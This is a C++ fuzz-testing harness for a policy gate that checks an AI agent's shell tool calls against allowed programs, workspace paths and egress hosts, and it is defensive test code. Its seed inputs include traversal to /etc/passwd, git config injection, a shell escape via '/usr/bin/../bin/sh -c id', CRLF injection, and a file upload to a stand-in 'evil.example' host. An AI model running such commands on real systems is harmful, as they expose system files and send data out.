// A command that is covered starts a listed program, reaches only paths that were judged, has no word that neither the
// call nor the policy has, and means the same when it is judged again.

#include <algorithm>

#include "decide/evaluate.h"
#include "decide/facts.h"
#include "policy/load.h"
#include "policy/session_request.h"
#include "target.h"

namespace {

using yett::fuzz::require;

constexpr yett::TimePoint kNow = std::chrono::sys_days{std::chrono::year{2026} / 12 / 1};

constexpr std::string_view kPolicy = R"(
[policy]
name = "fuzz"
version = 1
[session]
permissions = "full access"
tenant = "local"
[egress]
hosts = ["hooks.example.com"]
[paths.ws]
root = "/srv/ws"
access = "read-write"
[tools.run]
effect = "execute"
sensitivity = "internal"
reversible = true
command.argv = ["argv"]
commands = [
  { program = "/usr/bin/git", subcommands = ["log", "diff"], options = ["--oneline", "-n=number", "--grep=text", "--color=name"], paths = ["revision", "read"], effect = "read" },
  { program = "/usr/bin/git", subcommands = ["describe"], paths = "revision", effect = "read" },
  { program = "/usr/bin/rg", options = ["-i", "-l"], paths = ["text", "read"], effect = "read" },
  { program = "/usr/bin/sort", options = ["-u", "-o=write"], paths = "read", effect = "write" },
  { program = "/usr/bin/python3", paths = ["read", "rest"], effect = "execute" },
  { program = "/usr/bin/id", paths = "name", effect = "read" },
  { program = "/usr/bin/curl", options = ["-g", "-sS", "--max-time=number"], paths = "url", effect = "read" },
  { program = "/opt/deliver", options = ["--note=text", "--from=read"], paths = "url", effect = "read" },
]
)";

yett::Session session_for(const yett::Policy& policy) {
  yett::SessionRequest request;
  request.run = "fuzz";
  request.user = "ana";
  return yett::make_session(policy, request, kNow).value();
}

struct Bench {
  yett::PolicyRef policy = yett::parse_policy(kPolicy, "fuzz.toml").value();
  yett::Session session = session_for(*policy);
  yett::SessionState state = yett::SessionState::of_new_run();
  yett::Evidence evidence{};
  std::string server{};
  std::vector<std::string> sealed{};
};

const Bench& bench() {
  static const Bench kBench;
  return kBench;
}

yett::Facts facts_of(const yett::ToolCall& call) {
  const Bench& on = bench();
  return yett::examine(yett::Engine::strict(), {.policy = *on.policy,
                                                .session = on.session,
                                                .state = on.state,
                                                .call = call,
                                                .evidence = on.evidence,
                                                .now = kNow,
                                                .server = on.server,
                                                .sealed = on.sealed});
}

yett::ToolCall call_of(yett::Json words) {
  return yett::ToolCall::readable("run", yett::Json::object({{"argv", std::move(words)}}));
}

/// Whether a word is the call's, a "--" that the gate puts in, or ends in what a target became.
bool is_accounted_for(const std::string& word, const yett::Json::Array& words, const yett::Facts& facts) {
  const auto is_it = [&](const yett::Json& of_call) { return *of_call.as_string() == word; };
  if (word == "--" || std::ranges::any_of(words, is_it)) return true;
  return std::ranges::any_of(facts.targets.all(), [&](const yett::NamedTarget& target) {
    return !target.canonical.empty() && word.ends_with(target.canonical);
  });
}

void look_at_targets(const yett::Facts& facts) {
  for (const yett::NamedTarget& target : facts.targets) {
    if (!target.flaws.empty()) continue;
    require(!target.canonical.empty(), "a target that became nothing");
    const bool is_path = target.channel == yett::Channel::Path;
    require(target.canonical.starts_with(is_path ? "/srv/ws" : "https://hooks.example.com/"), "a target elsewhere");
  }
}

}  // namespace

std::vector<std::string> yett::fuzz::seeds() {
  std::vector<std::string> seeds;
  for (std::string words :
       {"git|log|--oneline|-n|5|HEAD~2..main|src/a.c", "git|log|--grep=a b|--|x", "git|log|main|./a|--oneline",
        "git|describe|--|HEAD", "git|-c|core.fsmonitor=x|log", "rg|-i|--|-v|/srv/ws/a", "rg|a|../../etc/passwd",
        "sort|-o|out|in", "sort|-o=/etc/passwd|in", "python3|run.py|-c|import os", "python3|--|run.py", "id|ana",
        "curl|-g|-sS|https://hooks.example.com/x", "curl|--max-time|1e9|https://hooks.example.com/",
        "/opt/deliver|--note|a\r\nb|https://hooks.example.com/", "deliver|--from=a|https://evil.example/",
        "/usr/bin/../bin/sh|-c|id", "git|diff|--color=always|-|--|--|-a"}) {
    std::ranges::replace(words, '|', '\x1f');
    seeds.push_back(std::move(words));
  }
  return seeds;
}

/// Words, parted by U+001F.
extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
  std::string_view text(reinterpret_cast<const char*>(data), size);
  yett::Json::Array words;
  while (!text.empty()) {
    const std::string_view word = text.substr(0, text.find('\x1f'));
    words.emplace_back(std::string(word));
    text.remove_prefix(std::min(text.size(), word.size() + 1));
  }
  const yett::ToolCall call = call_of(words);
  const yett::Facts facts = facts_of(call);
  require(facts.commands.size() == 1, "a command that nobody looked at");
  const yett::NamedCommand& command = facts.commands.front();
  look_at_targets(facts);
  if (command.fault != yett::CommandFault::None) return 0;
  require(command.listed != nullptr, "a command that is covered by nothing");
  const yett::Json::Array& canonical = *command.canonical.as_array();
  require(*canonical.front().as_string() == command.listed->program, "another program than the listed one");
  const auto has_flaws = [](const yett::NamedTarget& target) { return !target.flaws.empty(); };
  if (std::ranges::any_of(facts.targets, has_flaws)) return 0;
  for (const yett::Json& word : std::span(canonical).subspan(1)) {
    require(is_accounted_for(*word.as_string(), words, facts), "a word that came from nowhere");
  }
  const yett::ToolCall again = call_of(canonical);
  const yett::Facts second = facts_of(again);
  require(second.commands.front().canonical == command.canonical, "a canonical command that means another one");
  return 0;
}
